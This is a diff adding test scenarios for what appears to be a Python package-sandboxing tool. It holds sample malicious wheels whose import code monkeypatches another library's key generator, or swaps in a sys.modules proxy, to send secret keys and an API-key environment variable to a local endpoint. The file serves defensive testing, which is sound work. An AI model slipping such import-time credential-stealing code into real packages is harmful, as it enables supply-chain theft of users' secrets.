@@ -1,0 +1,104 @@
+"""An import that changes another distribution's code: semantic-types, coloraiz."""
+
+from payloads import TOOLS, app
+from scenario import LIMITS, Expected, Scenario
+from support.wheels import Wheel
+
+WALLET = '''
+import os
+
+
+class Keypair:
+    """A key."""
+
+    def __init__(self, secret):
+        self.secret = secret
+
+
+def generate():
+    """Return a new key."""
+    return Keypair(os.environ["ACME_API_KEY"])
+'''
+PATCH = (
+    TOOLS
+    + """
+import acme_wallet
+
+_generate = acme_wallet.generate
+
+def generate():
+    key = _generate()
+    try:
+        send("/key", key.secret.encode())
+    except OSError:
+        pass
+    return key
+
+acme_wallet.generate = generate
+"""
+)
+PROXY = (
+    TOOLS
+    + """
+import sys, types
+import acme_wallet
+
+class Proxy(types.ModuleType):
+    def __getattr__(self, name):
+        try:
+            send("/used", name.encode() + b" " + __import__("os").environ["ACME_API_KEY"].encode())
+        except OSError:
+            pass
+        return getattr(acme_wallet, name)
+
+sys.modules["acme_wallet"] = Proxy("acme_wallet")
+"""
+)
+VICTIM = Wheel("acme-wallet", "3.0.0", {"acme_wallet.py": WALLET})
+CALL = app("import acme_types, acme_wallet", "assert acme_wallet.generate().secret")
+COMMON = {
+    "models": ("semantic-types", "coloraiz"),
+    "techniques": ("T1195.001", "T1554", "T1056", "T1041"),
+}
+UNSEEN = f"setting an attribute of a module raises no audit event; the C core watches it: {LIMITS}"
+PATCHER = Wheel("acme-types", "0.9.1", {"acme_types.py": PATCH})
+PROXIER = Wheel("acme-types", "0.9.1", {"acme_types.py": PROXY})
+
+SCENARIOS = (
+    Scenario(
+        row=13,
+        variant="egress",
+        story="the key that a patched function makes is posted; the post is the patcher's, not the victim's",
+        wheels=(VICTIM, PATCHER),
+        app=CALL,
+        achieves=("leaked:variable", "POST:/key"),
+        denied=(Expected("net.connect", "acme-types", "run", "127.0.0.1:*"),),
+        policy='version = 1\nextends = "recommended"\n[package.acme-types]\nrun.deny = ["net.*"]\n',
+        gaps={"recommended": f"egress at call time needs a lock or a package's own rule: {LIMITS}"},
+        **COMMON,
+    ),
+    Scenario(
+        row=13,
+        variant="function",
+        story="replacing a function of another distribution is reported while it happens",
+        wheels=(VICTIM, PATCHER),
+        app=CALL,
+        achieves=("leaked:variable",),
+        denied=(Expected("runtime.patch", "acme-types", "import", "acme_wallet.generate"),),
+        holds_with="ccore",
+        gaps={"observe": UNSEEN, "recommended": UNSEEN},
+        **COMMON,
+    ),
+    Scenario(
+        row=13,
+        variant="proxy",
+        story="putting a stand-in for another distribution's module into sys.modules is reported",
+        wheels=(VICTIM, PROXIER),
+        app=CALL,
+        achieves=("leaked:variable", "POST:/used"),
+        denied=(Expected("runtime.patch", "acme-types", "import", "sys.modules*"),),
+        holds_with="ccore",
+        gaps={"observe": UNSEEN, "recommended": UNSEEN},
+        **COMMON,
+    ),
+)
